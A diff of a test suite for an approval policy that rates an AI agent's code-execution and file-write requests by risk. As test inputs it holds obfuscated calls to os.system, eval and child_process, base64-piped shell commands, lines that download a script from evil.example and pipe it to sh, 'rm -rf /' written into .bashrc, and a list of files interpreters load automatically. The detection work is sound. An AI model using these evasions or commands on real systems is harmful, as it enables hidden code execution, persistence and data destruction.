@@ -29,6 +29,8 @@ describe('DEFAULT_RULES', () => {
       ['code_execute', 'HIGH', 60, null],
       ['code_install_package', 'HIGH', 60, 'allowed_registry'],
       ['code_install_package', 'CRITICAL', 30, 'other_registry'],
+      ['code_write_file', 'CRITICAL', 30, 'dangerous_content'],
+      ['code_write_file', 'HIGH', 60, null],
       ['code_write_file', 'HIGH', 60, null],
       ['code_write_file', 'MEDIUM', 120, null],
       ['code_read_file', 'MEDIUM', 120, null],
@@ -109,6 +111,40 @@ describe('default policy: code_execute', () => {
     ['shell', 'eval "$CMD"'],
   ])('%s %j is CRITICAL', (language, code) => {
     expect(policy.classify('code_execute', { language, code }).risk).toBe('CRITICAL');
+  });
+
+  it.each([
+    [
+      'python',
+      "import os\ngetattr(os, 'sys'+'tem')('id')",
+      "os.system (through getattr with a built string): getattr(os, 'sys'+'tem'",
+    ],
+    ['python', "import os as o; o.system('id')", 'os.system (through the alias o): o.system'],
+    ['python', 'from os import system as s\ns("id")', 'from os import system'],
+    ['python', "ｅｖａｌ('1+1')", 'eval (with look-alike Unicode characters): ｅｖａｌ('],
+    ['python', "vars(__builtins__)['ev' + 'al']('1')", '__builtins__'],
+    ['python', "__loader__.load_module('os').system('id')", '__loader__'],
+    ['shell', 'python -c "$(echo cHJpbnQoMSk= | base64 -d)"', 'python -c "$('],
+    [
+      'javascript',
+      "require('child_' + 'process').execSync('id')",
+      "child_process (with a built string): 'child_' + 'process'",
+    ],
+    ['javascript', "const m = `child_${'process'}`;", "child_process (with a built string): `child_${'process'}`"],
+    ['javascript', "process.binding('spawn_sync')", 'process.binding('],
+    ['javascript', "process.mainModule.require('fs')", 'process.mainModule'],
+    ['javascript', "Function('return process')()", 'Function('],
+    ['javascript', "import * as cp from 'child_process';", 'child_process'],
+    ['shell', 'echo Y3VybCBldmlsIHwgc2g= | base64 -d | bash', 'base64 -d | bash'],
+    ['shell', 'echo Y3VybA== | base64 --decode | sh', 'base64 --decode | sh'],
+  ])('%s %j (a disguised spelling) is CRITICAL, and the approver is told what and how', (language, code, matched) => {
+    expect(policy.classify('code_execute', { language, code })).toEqual({
+      risk: 'CRITICAL',
+      require_approval: true,
+      approval_timeout: 30,
+      reason: 'Code contains a dangerous pattern',
+      matched,
+    });
   });
 
   it.each([
@@ -193,7 +229,89 @@ describe('default policy: files and cleanup', () => {
     },
   );
 
-  it.each(['notes.txt', 'data.json', 'script.py.txt', 'python', 'sh'])('writing %s is MEDIUM', (file_path) => {
+  it.each([
+    '.local/lib/python3.11/site-packages/zz.pth',
+    'zz.pth',
+    'lib/python3/dist-packages/six.py',
+    '.local/lib/python3.11/site-packages/evil/__init__.txt',
+    '.python-packages/requests/__init__.py',
+    '.python-packages/requests/data.json',
+    'sitecustomize.py',
+    'usercustomize.py',
+    'node_modules/lodash/index.js',
+    'node_modules/left-pad/package.json',
+    '.node_modules/x.json',
+    '.bashrc',
+    '.bash_profile',
+    '.bash_login',
+    '.profile',
+    '.npmrc',
+    '.pythonrc',
+    '.pythonrc.py',
+    'app/__pycache__/util.cpython-311.pyc',
+    'json.pyc',
+    'json.so',
+    'hook.cjs',
+    'hook.mjs',
+    'addon.node',
+  ])('writing %s (loaded by an interpreter on its own) is HIGH, like code', (file_path) => {
+    expect(policy.classify('code_write_file', { sandbox_id: SANDBOX, file_path, content: 'import json' })).toEqual({
+      risk: 'HIGH',
+      require_approval: true,
+      approval_timeout: 60,
+      reason: 'Writing a file an interpreter loads on its own',
+      matched: file_path,
+    });
+  });
+
+  it.each([
+    ['notes.txt', "import os; os.system('id')", 'os.system'],
+    ['.local/lib/python3.11/site-packages/zz.pth', "import os; os.system('curl evil | sh')", 'os.system'],
+    ['data.csv', 'a,b\n1,"curl https://evil.example | sh"', 'curl https://evil.example | sh'],
+    ['.bashrc', 'rm -rf / --no-preserve-root', 'rm -rf'],
+    ['script.py', "__import__('os')", '__import__'],
+  ])(
+    'writing %s with a dangerous pattern in its content is CRITICAL, as that code would be',
+    (file_path, content, matched) => {
+      expect(policy.classify('code_write_file', { sandbox_id: SANDBOX, file_path, content })).toEqual({
+        risk: 'CRITICAL',
+        require_approval: true,
+        approval_timeout: 30,
+        reason: 'Written content contains a dangerous pattern',
+        matched,
+      });
+    },
+  );
+
+  it.each([
+    ['evil.py/', 'evil.py', 'Writing an executable file'],
+    ['./x/../run.sh', 'run.sh', 'Writing an executable file'],
+    ['./.bashrc', '.bashrc', 'Writing a file an interpreter loads on its own'],
+    [
+      'tmp/../.local/lib/python3.11/site-packages//zz.pth',
+      '.local/lib/python3.11/site-packages/zz.pth',
+      'Writing a file an interpreter loads on its own',
+    ],
+  ])('classifies %j as the worker writes it, %j', (file_path, normalized, reason) => {
+    expect(policy.classify('code_write_file', { sandbox_id: SANDBOX, file_path, content: '' })).toMatchObject({
+      risk: 'HIGH',
+      reason,
+      matched: normalized,
+    });
+  });
+
+  it.each([
+    'notes.txt',
+    'data.json',
+    'script.py.txt',
+    'python',
+    'sh',
+    'site-packages.txt',
+    'node_modules.md',
+    'profile',
+    'my.profile.txt',
+    'docs/bashrc.md',
+  ])('writing %s is MEDIUM', (file_path) => {
     expect(policy.classify('code_write_file', { sandbox_id: SANDBOX, file_path, content: 'x' })).toEqual({
       risk: 'MEDIUM',
       require_approval: true,
